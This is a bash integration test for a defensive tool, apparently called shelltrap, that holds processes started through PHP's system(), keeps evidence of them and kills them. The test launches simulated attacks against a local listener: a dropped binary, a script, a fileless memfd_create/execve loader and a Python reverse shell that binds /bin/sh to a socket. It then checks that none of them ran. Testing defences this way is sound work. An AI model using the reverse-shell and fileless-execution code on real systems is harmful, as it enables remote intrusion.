#!/bin/bash
# SPDX-License-Identifier: GPL-2.0
#
# What an attacker starts by PHP's system() is held, and the logger has evidence of it kept by
# itself: the very bytes that would have run, of a dropped program, a program without a file, a
# script and a reverse shell. Not one instruction of them has run by then, nor does one run
# later. If the logger dies, what is held ends by itself.
# limit: 400 s

. "${0%/*}/lib.sh"
. "${0%/*}/log.sh"
. "${0%/*}/php-attacks.sh"
. "${0%/*}/enforcement.sh"
. "${0%/*}/hold.sh"

site=http://127.0.0.1
drop=/tmp/hold
kept=/var/lib/shelltrap/evidence

# seq_of MARKER: prints the number of the alert whose held process has MARKER in its arguments.
seq_of()
{
	held_field seq "$drop/ran-$1"
}

# is_kept MARKER: the evidence of this process is whole. Unpacks it below
# $scratch/kept-MARKER.
is_kept()
{
	local seq

	seq=$(seq_of "$1")
	[[ -n $seq && -e $kept/$instance-$seq.tar ]] || return
	rm -rf "$scratch/kept-$1"
	mkdir "$scratch/kept-$1"
	tar -xf "$kept/$instance-$seq.tar" -C "$scratch/kept-$1" --strip-components=1
}

# same_bytes FILE FILE
same_bytes()
{
	[[ $(sha256sum <"$1") == "$(sha256sum <"$2")" ]]
}

nothing_has_run()
{
	[[ -z $(find "$drop" -name 'ran-*') ]]
}

# manifest MARKER FILTER: jq's FILTER is true for the manifest.
manifest()
{
	jq -e "$2" "$scratch/kept-$1/manifest.json"
}

# The attacker's machine: takes a connection, and writes what comes to a file.
cat >"$scratch/attacker.py" <<'END'
import socket, sys
listening = socket.create_server(("127.0.0.1", 4444))
open(sys.argv[1], "w").close()
connection = listening.accept()[0]
with open(sys.argv[1], "wb", 0) as file:
    while data := connection.recv(1000):
        file.write(data)
END

load_module
instance=$(current_instance)
install -m 0755 "$payload/shelltrap" /usr/sbin/shelltrap
install -m 0644 "$payload"/userspace/systemd/shelltrap-evidence.{service,socket} /etc/systemd/system/
install -d /etc/shelltrap
printf '%s\n' '[log]' "evidence = $kept" 'evidence_rate = 100' >/etc/shelltrap/shelltrap.conf
systemctl daemon-reload
systemctl start shelltrap-evidence.socket
configure "evidence = $kept" "evidence_rate = 100" "[output file:$scratch/log.json]"
start_logger
check "the logger listens" wait_until 15 is_listening
check "a policy that holds loads" load_holding webserver_dropped_exec webserver_reverse_shell <<-END
	hold_per_user = 4
	hold_per_server = 4
	hold_seconds = 300
END

rm -rf "$drop"
install -d -m 1777 "$drop"
{
	cat /bin/touch
	echo "made by the attacker"
} >"$scratch/program"
printf '#!/bin/sh\ntouch %s\n: "$@"\n' "$drop/ran-script" >"$scratch/script"
install -m 755 -o www-data "$scratch/script" "$drop/script"
install -m 644 "$scratch/program" "$drop/payload"
python3 -IS "$scratch/attacker.py" "$drop/received" &
check "the attacker waits for a connection" wait_until 10 test -e "$drop/received"
attack "install -m 755 $drop/payload $drop/elf; $drop/elf $drop/ran-elf"
attack "$drop/script $drop/ran-script"
attack "python3 -c 'import os
memory = os.memfd_create(\"x\")
os.write(memory, open(\"$drop/payload\", \"rb\").read())
os.execve(memory, [\"in-memory\", \"$drop/ran-memfd\"], {})'"
attack "python3 -c 'import os, socket
connection = socket.create_connection((\"127.0.0.1\", 4444))
for descriptor in range(3):
    os.dup2(connection.fileno(), descriptor)
os.execv(\"/bin/sh\", [\"sh\", \"-ic\", \"touch $drop/ran-reverse\"])'"
check "four programs are held" wait_until 60 held_is 4
for kind in elf script memfd reverse; do
	check "$kind: the logger has evidence kept while it is held" wait_until 60 is_kept "$kind"
	check "$kind: it is of the file that the alert names" manifest "$kind" \
		'.processes[0].file_is_of_record == true'
	check "$kind: the arguments are there" grep -qz "$drop/ran-$kind" \
		"$scratch/kept-$kind/process/cmdline"
done
check "the bytes of the dropped program are there" same_bytes "$scratch/kept-elf/process/exe" "$scratch/program"
check "those of the program without a file" same_bytes "$scratch/kept-memfd/process/exe" "$scratch/program"
check "those of the script" same_bytes "$scratch/kept-script/process/script" "$scratch/script"
check "those of the shell with the connection" same_bytes "$scratch/kept-reverse/process/exe" /bin/sh
check "and where it leads" grep -q '"peer":"127.0.0.1:4444"' "$scratch/kept-reverse/process/descriptors.json"
check "the server's facts are there" grep -qsa php-fpm "$scratch"/kept-elf/*/cmdline
check "all four are held still" held_is 4
check "not one instruction of theirs has run" nothing_has_run
check "the attacker has not got one byte" test ! -s "$drop/received"

# The attacker changes what is on the disk.
by_user sh -c "echo >$drop/script; rm -f $drop/elf; echo other >$drop/elf"
check "a script can be rewritten while it is held" test "$(wc -c <"$drop/script")" = 1
seq=$(seq_of elf)
rm -rf "$scratch/again" "$scratch/again.tar"
mkdir "$scratch/again"
check "evidence by hand has a program still that was replaced" \
	shelltrap evidence "$seq" --output "$scratch/again.tar"
tar -xf "$scratch/again.tar" -C "$scratch/again" --strip-components=1
check "its bytes are those that would run" same_bytes "$scratch/again/process/exe" "$scratch/program"

mark
for kind in elf script memfd reverse; do
	check "$kind: it is killed with its lineage" shelltrap release "$(seq_of $kind)" --kill
done
check "each has an outcome" wait_until 10 outcomes_are 4 '"verdict":"killed"' '"why":"command"'
check "nothing has run in the end" nothing_has_run
check "the attacker has not got one byte in the end" test ! -s "$drop/received"
logged()
{
	[[ $(grep -c '"type":"outcome".*"why":"command"' "$scratch/log.json") == "$1" ]]
}
check "the logger has written the outcomes" wait_until 10 logged 4

# Nobody is there to release it.
check "a policy that holds for some seconds loads" load_holding <<-END
	hold_seconds = 5
	hold_then = kill
END
mark
attack "cp $drop/payload $drop/last; chmod 755 $drop/last; $drop/last $drop/ran-last"
check "a program is held" wait_until 30 held_is 1
kill_logger
systemctl stop shelltrap-evidence.socket shelltrap-evidence.service
check "without a logger its time ends, too" wait_until 20 outcomes_are 1 '"verdict":"killed"' '"why":"time"'
check "it has not run" nothing_has_run
start_logger
check "the next logger writes the outcome" wait_until 20 grep -q '"type":"outcome".*"why":"time"' "$scratch/log.json"
stop_logger

rm -r /etc/systemd/system/shelltrap-evidence.* /etc/shelltrap /usr/sbin/shelltrap /var/lib/shelltrap
systemctl daemon-reload
rm -rf "$drop" "$scratch"/{kept-*,again*,program,script}
remove_logs
